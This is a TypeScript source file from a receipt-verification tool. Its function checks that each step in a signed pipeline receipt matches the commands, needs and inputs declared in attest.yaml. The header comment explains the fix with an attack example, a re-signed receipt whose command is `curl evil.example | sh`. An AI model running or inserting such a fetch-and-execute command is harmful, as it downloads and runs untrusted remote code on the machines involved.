import fs from 'node:fs';
import { coversPath, parsePattern } from './patterns.js';
import type { Receipt } from './receipt.js';
import { globalInputPatterns, parseSpec } from './spec.js';
import path from 'node:path';

// `evident verify receipt`'s "Pipeline steps match" check (issue 14 finding 3): a matching pipeline hash
// only says which attest.yaml the receipt names, not that its steps are that file's. A receipt re-signed
// with `curl evil.example | sh` as a command kept the hash. So every step of the receipt is compared with
// the attest.yaml given: it exists there, its command is the file's `run`, its needs (recorded since
// receipts carry them) are the file's, and every input file it lists is under one of the step's declared
// inputs or the pipeline's global inputs.

export interface StepsCheck {
  ok: boolean;
  message: string;
  problems: string[];
}

const sameSet = (a: readonly string[], b: readonly string[]) => a.length === b.length && [...a].sort().join('\0') === [...b].sort().join('\0');

export function checkReceiptSteps(receipt: Receipt, pipelineFile: string): StepsCheck {
  let text: string;
  try {
    text = fs.readFileSync(pipelineFile, 'utf8');
  } catch {
    return { ok: false, message: `Pipeline steps cannot be checked: ${pipelineFile} not readable`, problems: [] };
  }
  const { spec } = parseSpec(text);
  if (!spec) return { ok: false, message: `Pipeline steps cannot be checked: ${pipelineFile} is not a valid attest.yaml`, problems: [] };
  const globals = globalInputPatterns(spec, path.basename(pipelineFile)).patterns.map(parsePattern);
  const problems: string[] = [];
  for (const step of receipt.steps) {
    const declared = spec.steps.get(step.name);
    if (!declared) {
      problems.push(`step ${step.name} is not in ${pipelineFile}`);
      continue;
    }
    if (step.command !== declared.run) problems.push(`step ${step.name} ran ${JSON.stringify(step.command)}, not ${JSON.stringify(declared.run)}`);
    if (step.needs !== undefined && !sameSet(step.needs, declared.needs)) problems.push(`step ${step.name} needs [${step.needs.join(', ')}], not [${declared.needs.join(', ')}]`);
    const patterns = [...declared.inputs.map(parsePattern), ...globals];
    for (const input of step.inputs) {
      if (!patterns.some((p) => coversPath(p, input.path))) problems.push(`input ${input.path} of step ${step.name} is not under its declared inputs`);
    }
  }
  if (problems.length === 0) return { ok: true, message: 'Pipeline steps match (commands, needs, inputs)', problems };
  const more = problems.length > 1 ? ` (and ${problems.length - 1} more)` : '';
  return { ok: false, message: `Pipeline steps: ${problems[0]}${more}`, problems };
}
